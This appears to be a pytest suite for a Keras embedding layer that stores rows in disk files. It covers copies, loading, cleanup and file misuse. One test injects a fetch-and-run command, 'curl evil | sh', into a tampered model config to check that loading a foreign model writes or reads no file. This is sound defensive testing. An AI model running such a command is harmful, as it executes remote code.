"""A file of rows belongs to one layer; a file that is missing a part is noticed and named."""

import copy
import gc
import os
import pathlib
import re
import subprocess
import sys
import tempfile
import zipfile

import keras
import numpy as np
import pytest
import tensorflow as tf

from app.errors import RunError
from app.keras import (
    FeatureConfig,
    FeatureEmbedding,
    RowEmbedding,
    StoredRows,
    TableConfig,
    load_model,
)
from app.keras.tables import table_kinds
from app.tables.disk.table_file import TableFile
from tests.keras import table_models as models

ROOT = pathlib.Path(__file__).parents[2]


def build(path, rows=5):
    RowEmbedding(rows, 2, table="file", table_file=path, name="words").build()


def make_one(folder):
    model = models.make_model(models.make_layer("file", folder))
    model.optimizer.build(model.trainable_variables)
    return model


def make_feature(folder):
    table = TableConfig(
        "words", models.ROWS, 2, table="file", table_file=str(folder / "rows.bin"), combiner=None
    )
    layer = FeatureEmbedding(FeatureConfig("word", table, (None,)))
    inputs = keras.Input((), dtype="int64")
    return keras.Model(inputs, layer(inputs))


COPIES = {
    "clone": lambda model, path: keras.models.clone_model(model),
    "deepcopy": lambda model, path: copy.deepcopy(model),
    "load": lambda model, path: keras.models.load_model(path),
    "load of the package": lambda model, path: load_model(path),
    "load to": lambda model, path: load_model(path, table_folder=path.parent / "tables"),
}
FOLDERS = {"load": "temporary", "load of the package": "models", "load to": "models/tables"}


@pytest.mark.parametrize("make", [make_one, make_feature])
@pytest.mark.parametrize("way", COPIES)
def test_a_copy_of_a_model_has_a_new_file(make, way, tmp_path, monkeypatch):
    for name in ("mine", "models", "temporary"):
        (tmp_path / name).mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path / "temporary"))
    model, path = make(tmp_path / "mine"), tmp_path / "models" / "model.keras"
    model.save(path)
    if way not in ("clone", "deepcopy"):  # as in a new process, which named no file
        monkeypatch.setattr(table_kinds, "named_files", set())
    other = COPIES[way](model, path)
    table = next(v.table for v in other.variables if getattr(v, "is_table", False))
    assert table.path.parent == tmp_path / FOLDERS.get(way, "mine")
    before = [array.copy() for array in model.get_weights()]
    if way != "clone":  # which has new rows
        for array, same in zip(other.get_weights(), before, strict=True):
            np.testing.assert_array_equal(array, same)
    table.assign(tf.constant([1], tf.int64), tf.ones((1, table.columns)))
    for array, same in zip(model.get_weights(), before, strict=True):
        np.testing.assert_array_equal(array, same)


def test_the_file_of_a_copy_is_removed_with_it(tmp_path):
    layer = models.make_layer("file", tmp_path)
    other = copy.deepcopy(layer)
    assert len(list(tmp_path.glob("lexrow-*"))) == 2  # with its journal
    del other
    gc.collect()
    assert not list(tmp_path.glob("lexrow-*"))
    assert os.path.exists(layer.table_file)


@pytest.mark.parametrize("make", [make_one, make_feature])
def test_a_foreign_model_names_no_file(make, tmp_path, monkeypatch):
    for name in ("mine", "victim", "temporary"):
        (tmp_path / name).mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path / "temporary"))
    path, foreign = tmp_path / "mine" / "model.keras", tmp_path / "mine" / "foreign.keras"
    make(tmp_path / "mine").save(path)
    with zipfile.ZipFile(path) as archive, zipfile.ZipFile(foreign, "w") as changed:
        for name in archive.namelist():
            data = archive.read(name)
            if name == "config.json":
                data = re.sub(rb"[^\"]+/rows\w*.bin", f"{tmp_path}/victim/rows.bin".encode(), data)
                data = data.replace(b'"table_file"', b'"table_id": "curl evil | sh", "table_file"')
            changed.writestr(name, data)
    keras.models.load_model(foreign)
    assert not list((tmp_path / "victim").iterdir())
    for file in (tmp_path / "temporary").iterdir():
        assert b"evil" not in file.read_bytes()


def test_a_foreign_model_reads_no_file(tmp_path, caplog):
    np.save(tmp_path / "secret.npy", np.ones((3, 2), np.float32))
    config = {"rows": str(tmp_path / "secret.npy"), "shape": [3, 2]}
    assert isinstance(StoredRows.from_config(config), keras.initializers.Zeros)
    assert "the file of a configuration is not opened" in caplog.text


def test_a_program_that_is_run_again_replaces_its_file(tmp_path):
    first = models.make_layer("file", tmp_path)
    path = first.table_file
    with pytest.raises(
        ValueError, match="is in use by another layer, of this .*; delete that model"
    ):
        build(path)
    np.testing.assert_array_equal(first.get_weights()[0], models.WEIGHTS)
    model = models.make_model(first)
    models.fit(model)
    del first, model
    build(path, 7)  # Python has not freed the model yet
    (tmp_path / "text").write_bytes(b"my only copy")
    TableFile(tmp_path / "of a run", "run", resume=False)
    for name in ("text", "of a run"):
        before = (tmp_path / name).read_bytes()
        with pytest.raises(ValueError, match="exists, and holds something else than the rows of"):
            build(str(tmp_path / name))
        assert (tmp_path / name).read_bytes() == before


@pytest.mark.parametrize("eager", [True, False])
def test_a_file_that_is_cut_short_while_it_is_in_use(eager, tmp_path):
    layer = models.make_layer("file", tmp_path, name="words")
    call = layer if eager else tf.function(layer.call, autograph=False)
    os.truncate(layer.table_file, 65_000)
    words = r"words: table_file=.* was cut short while it was in use; load a saved model, or make"
    with pytest.raises(RunError if eager else tf.errors.UnknownError, match=words):
        call(tf.constant([1]))


@pytest.mark.slow  # processes of their own
def test_of_two_processes_that_start_on_one_new_file_one_has_it(tmp_path):
    program = f"""
import sys, time
import numpy as np
from app.keras import RowEmbedding
print("ready", flush=True)
sys.stdin.readline()
layer = RowEmbedding(5, 2, table="file", table_file={str(tmp_path / "rows.bin")!r}, name="words")
layer.build()
layer.set_weights([np.full((5, 2), 7)])
time.sleep(3)
assert (layer.get_weights()[0] == 7).all()
print("kept")
"""
    options = {"stdin": subprocess.PIPE, "stdout": subprocess.PIPE, "stderr": subprocess.PIPE}
    command = [sys.executable, "-c", program]
    both = [subprocess.Popen(command, cwd=ROOT, text=True, **options) for _ in range(2)]
    for process in both:
        assert process.stdout.readline() == "ready\n"
    for process in both:
        process.stdin.write("\n")
        process.stdin.flush()
    ends = sorted(process.communicate() for process in both)
    assert [out for out, _ in ends] == ["", "kept\n"]
    line = f"ValueError: words: table_file={tmp_path}/rows.bin is in use by another layer, of this"
    assert ends[0][1].splitlines()[-1].startswith(line)


def test_names_that_are_no_new_file(tmp_path):
    with pytest.raises(ValueError, match=r"^words: table_file=.* is no file; give the name of a"):
        build(str(tmp_path))
    with pytest.raises(ValueError, match=r"^words: table_file=5; give the name of a file"):
        build(5)
    with pytest.raises(ValueError, match=r"^words: .*800,000,000,000,000 bytes"):
        build(str(tmp_path / "rows.bin"), 10**14)
    assert not (tmp_path / "rows.bin").exists()
